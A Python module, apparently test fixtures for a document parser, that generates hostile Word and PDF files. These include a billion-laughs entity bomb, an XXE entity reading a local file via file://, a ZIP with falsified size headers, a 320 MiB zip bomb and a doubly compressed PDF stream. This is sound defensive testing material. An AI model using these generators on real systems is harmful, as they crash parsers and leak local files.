"""Makes files that do harm: archives that unpack to more than fits, entities that multiply."""

from __future__ import annotations

import io
import zipfile
import zlib

import docx

_BODY = "word/document.xml"
_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def word_with(body: bytes, *, compress: bool = True) -> bytes:
    """Return a Word file whose main part is `body`."""
    document = docx.Document()
    plain = io.BytesIO()
    document.save(plain)
    made = io.BytesIO()
    kind = zipfile.ZIP_DEFLATED if compress else zipfile.ZIP_STORED
    with zipfile.ZipFile(plain) as old, zipfile.ZipFile(made, "w", kind) as new:
        for name in old.namelist():
            new.writestr(name, body if name == _BODY else old.read(name))
    return made.getvalue()


def body_of(inner: str, doctype: str = "") -> bytes:
    """Return a main part with `inner` as its content."""
    return (
        f'<?xml version="1.0" encoding="UTF-8"?>{doctype}<w:document {_W}><w:body>{inner}'
        "</w:body></w:document>"
    ).encode()


def paragraph(text: str) -> str:
    """Return a paragraph of a Word file."""
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def laughs() -> bytes:
    """Return a Word file whose entity stands for ten to the ninth characters."""
    levels = "".join(f'<!ENTITY l{level} "{f"&l{level - 1};" * 10}">' for level in range(1, 10))
    doctype = f'<!DOCTYPE w [<!ENTITY l0 "x">{levels}]>'
    return word_with(body_of(paragraph("&l9;"), doctype))


def reads_a_file(path: str) -> bytes:
    """Return a Word file with an external entity."""
    doctype = f'<!DOCTYPE w [<!ENTITY out SYSTEM "file://{path}">]>'
    return word_with(body_of(paragraph("before &out; after"), doctype))


def lies_about_its_size() -> bytes:
    """Return a Word file whose main part is a hundred times as long as its header says."""
    data = bytearray(word_with(body_of(paragraph("x" * 10_000_000))))
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as package:
        true = package.getinfo(_BODY).file_size
    for place in _places(bytes(data), true.to_bytes(4, "little")):
        data[place : place + 4] = (true // 100).to_bytes(4, "little")
    return bytes(data)


def bomb() -> bytes:
    """Return a Word file with a part of 320 MiB of zeros."""
    made = io.BytesIO(word_with(body_of(paragraph("x"))))
    with (
        zipfile.ZipFile(made, "a", zipfile.ZIP_DEFLATED) as package,
        package.open("word/more.xml", "w", force_zip64=True) as part,
    ):
        block = bytes(2**24)
        for _ in range(20):
            part.write(block)
    return made.getvalue()


def page_of(content: bytes) -> bytes:
    """Return a PDF of one page whose content unpacks to `content`, compressed twice."""
    stream = zlib.compress(zlib.compress(content, 1), 1)
    parts = [
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 500 500]/Contents 4 0 R/Resources<<%b>>>>"
        % b"/Font<</F 5 0 R>>",
        b"<</Filter[/FlateDecode/FlateDecode]/Length %d>>stream\n%b\nendstream"
        % (len(stream), stream),
        b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
    ]
    objects = b"".join(b"%d 0 obj%bendobj\n" % pair for pair in enumerate(parts, start=1))
    return b"%PDF-1.4\n" + objects + b"trailer<</Size 6/Root 1 0 R>>"


def _places(data: bytes, wanted: bytes) -> list[int]:
    places, start = [], data.find(wanted)
    while start >= 0:
        places.append(start)
        start = data.find(wanted, start + 1)
    return places
